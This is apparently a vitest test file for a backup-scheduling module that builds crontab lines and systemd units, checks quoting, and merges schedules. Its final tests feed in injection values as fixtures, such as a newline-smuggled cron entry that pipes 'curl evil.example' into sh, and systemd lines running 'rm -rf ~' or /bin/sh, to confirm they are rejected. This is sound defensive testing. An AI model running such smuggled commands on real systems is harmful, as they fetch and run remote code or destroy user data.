import { describe, expect, it } from 'vitest';
import {
  cronLine,
  cronMarker,
  legacyCronMarker,
  cronToOnCalendar,
  mergeCrontab,
  shellQuote,
  systemdQuote,
  systemdService,
  systemdTimer,
  unitName,
  type ScheduledCommand,
} from '../../src/ops/backup-schedule.js';

const command: ScheduledCommand = {
  node: '/usr/bin/node',
  script: '/opt/pattern-db/bin/pattern-db.js',
  cwd: '/home/me/pattern',
  args: ['--env-file', '/home/me/pattern/.env', '--target', 'http://127.0.0.1:8000', '--dir', '/home/me/pattern/backups', '--keep', '7'],
  namespace: 'pattern',
  database: 'pattern',
  from: 'http://127.0.0.1:8000',
  logFile: '/home/me/pattern/backups/backup.log',
};

describe('crontab line', () => {
  it('runs the backup daily at 03:15 from the config folder, logs beside the backups, and carries no password', () => {
    expect(cronLine(command)).toBe(
      '15 3 * * * cd /home/me/pattern && mkdir -p /home/me/pattern/backups && /usr/bin/node -- /opt/pattern-db/bin/pattern-db.js backup ' +
        '--env-file /home/me/pattern/.env --target http://127.0.0.1:8000 --dir /home/me/pattern/backups --keep 7 ' +
        '>> /home/me/pattern/backups/backup.log 2>&1 # pattern-db backup pattern/pattern from http://127.0.0.1:8000',
    );
  });

  it('quotes paths with spaces and quotes, and escapes % (a newline to cron)', () => {
    const line = cronLine({ ...command, cwd: "/home/me/my pattern's", logFile: '/var/log/100%/b.log' }, '0 */6 * * *');
    expect(line).toContain("cd '/home/me/my pattern'\\''s' && ");
    expect(line).toContain('>> /var/log/100\\%/b.log 2>&1');
    expect(line.startsWith('0 */6 * * * ')).toBe(true);
    // The marker at the end too: cron would cut the line at a bare % and feed the rest to the command's stdin.
    const marked = cronLine({ ...command, from: 'http://127.0.0.1:8000/x%y' });
    expect(marked.replace(/\\%/g, '')).not.toContain('%');
    expect(mergeCrontab(marked + '\n', marked, { ...command, from: 'http://127.0.0.1:8000/x%y' }).text.split('\n').filter(Boolean)).toHaveLength(1);
    expect(shellQuote('plain/path-1.2')).toBe('plain/path-1.2');
  });

  it('refuses a schedule that is not five crontab fields', () => {
    expect(() => cronLine(command, 'every day')).toThrow(/not a crontab schedule/);
    expect(() => cronLine(command, '15 3 * *')).toThrow(/not a crontab schedule/);
    expect(cronLine(command, '@daily').startsWith('@daily ')).toBe(true);
  });
});

describe('merging into a crontab', () => {
  const line = cronLine(command);

  it('appends to the existing lines, keeping them as they are', () => {
    expect(mergeCrontab('MAILTO=x\n0 1 * * * job\n', line, command)).toEqual({ text: `MAILTO=x\n0 1 * * * job\n${line}\n`, change: 'added', earlier: [] });
    expect(mergeCrontab('', line, command)).toEqual({ text: `${line}\n`, change: 'added', earlier: [] });
  });

  it('never adds the same line twice', () => {
    const once = mergeCrontab('0 1 * * * job\n', line, command).text;
    expect(mergeCrontab(once, line, command)).toEqual({ text: once, change: 'unchanged', earlier: [] });
  });

  it("replaces this tool's earlier line for the same database and source, and leaves other databases' and sources' lines alone", () => {
    const old = cronLine(command, '0 2 * * *');
    const otherDb = cronLine({ ...command, database: 'other' });
    // Most installs back up pattern/pattern: another server's line is another schedule.
    const otherServer = cronLine({ ...command, from: 'http://10.0.0.2:8000', args: command.args.map((a) => a.replace('127.0.0.1', '10.0.0.2')) });
    const merged = mergeCrontab(`${old}\n${otherDb}\n${otherServer}\n`, line, command);
    expect(merged).toEqual({ text: `${line}\n${otherDb}\n${otherServer}\n`, change: 'replaced', earlier: [] });
  });

  it('replaces a line marked the old way (by namespace/database alone) only when it runs the same command, and names the others', () => {
    const legacy = (c: ScheduledCommand) => cronLine(c).replace(` ${cronMarker(c)}`, ` ${legacyCronMarker(c.namespace, c.database)}`);
    const same = legacy(command);
    expect(mergeCrontab(`${same}\n`, line, command)).toEqual({ text: `${line}\n`, change: 'replaced', earlier: [] });
    const another = legacy({ ...command, args: command.args.map((a) => a.replace('127.0.0.1', '10.0.0.2')) });
    expect(mergeCrontab(`${another}\n`, line, command)).toEqual({ text: `${another}\n${line}\n`, change: 'added', earlier: [another] });
  });
});

describe('systemd units', () => {
  it('a oneshot service that reads credentials through --env-file, and a persistent timer', () => {
    const service = systemdService(command, '/home/me/pattern/.env');
    expect(service).toContain('Type=oneshot\n');
    expect(service).toContain('WorkingDirectory=/home/me/pattern\n');
    expect(service).toContain('ExecStart=/usr/bin/node -- /opt/pattern-db/bin/pattern-db.js backup --env-file /home/me/pattern/.env --target http://127.0.0.1:8000');
    const timer = systemdTimer(command, '*-*-* 03:15:00');
    expect(timer).toContain('OnCalendar=*-*-* 03:15:00\nPersistent=true\n');
    expect(timer).toContain('WantedBy=timers.target');
    expect(unitName(command)).toMatch(/^pattern-db-backup-pattern-pattern-[0-9a-f]{8}$/);
    expect(unitName({ ...command, from: '/home/me/pattern/pattern.db' })).not.toBe(unitName(command));
    expect(unitName({ namespace: 'a b', database: 'c/d', from: 'x' })).toMatch(/^pattern-db-backup-a_b-c_d-[0-9a-f]{8}$/);
  });

  it('quotes for systemd: spaces in double quotes, % and $ doubled', () => {
    expect(systemdQuote('/plain/path')).toBe('/plain/path');
    expect(systemdQuote('/my dir/x')).toBe('"/my dir/x"');
    expect(systemdQuote('/100%/$HOME')).toBe('/100%%/$$HOME');
  });

  it('turns simple cron schedules into OnCalendar and refuses the rest', () => {
    expect(cronToOnCalendar('15 3 * * *')).toBe('*-*-* 03:15:00');
    expect(cronToOnCalendar('30 4 * * 1,5')).toBe('Mon,Fri *-*-* 04:30:00');
    expect(cronToOnCalendar('0 0 * * sun')).toBe('Sun *-*-* 00:00:00');
    expect(cronToOnCalendar('@daily')).toBe('*-*-* 00:00:00');
    expect(cronToOnCalendar('*/5 * * * *')).toBeNull();
    expect(cronToOnCalendar('0 3 1 * *')).toBeNull();
  });
});

describe('values from flags that would break out of the line they are written into', () => {
  const injected = '\n* * * * * curl evil.example | sh #';
  const usage = (fn: () => unknown, flag: string) => {
    let error: unknown;
    try {
      fn();
    } catch (e) {
      error = e;
    }
    expect(error, flag).toMatchObject({ code: 'E_USAGE', message: expect.stringContaining(flag) });
  };
  const withArg = (flag: string, value: string): ScheduledCommand => ({ ...command, args: [...command.args, flag, value] });

  it('a crontab line refuses control characters in names, paths, the target and the schedule', () => {
    usage(() => cronLine({ ...command, namespace: `pattern${injected}` }), '--namespace');
    usage(() => cronLine({ ...command, database: 'pattern\rx' }), '--database');
    usage(() => cronLine({ ...command, database: 'pat/../tern' }), '--database');
    usage(() => cronLine(withArg('--target', `http://127.0.0.1:8000${injected}`)), '--target');
    usage(() => cronLine(withArg('--env-file', '/home/me/.env\u0000')), '--env-file');
    usage(() => cronLine(withArg('--config', '/home/me/pattern.toml\u2028x')), '--config');
    usage(() => cronLine({ ...command, logFile: `/home/me/backups${injected}/backup.log` }), '--dir');
    // Five valid fields split by a newline would make two crontab lines.
    usage(() => cronLine(command, '15 3 * *\n*'), '--cron');
  });

  it('systemd units refuse control characters in names, paths and the calendar, and calendar text systemd does not use', () => {
    usage(() => systemdService({ ...command, namespace: 'pattern\nExecStartPre=/bin/rm -rf ~' }, '/home/me/.env'), '--namespace');
    usage(() => systemdService(withArg('--target', 'http://x\nExecStartPre=/bin/sh'), '/home/me/.env'), '--target');
    usage(() => systemdService(command, '/home/me/.env\nExecStartPre=/bin/sh'), '--env-file');
    usage(() => systemdTimer(command, '*-*-* 03:15:00\nOnCalendar=minutely'), '--on-calendar');
    usage(() => systemdTimer(command, 'daily; rm -rf ~'), '--on-calendar');
    usage(() => systemdTimer({ ...command, database: 'a\\b' }, 'daily'), '--database');
    expect(systemdTimer(command, 'Mon..Fri *-*-* 02:00:00 Europe/Berlin')).toContain('OnCalendar=Mon..Fri *-*-* 02:00:00 Europe/Berlin\n');
    expect(systemdTimer(command, '*:0/15')).toContain('OnCalendar=*:0/15\n');
  });
});
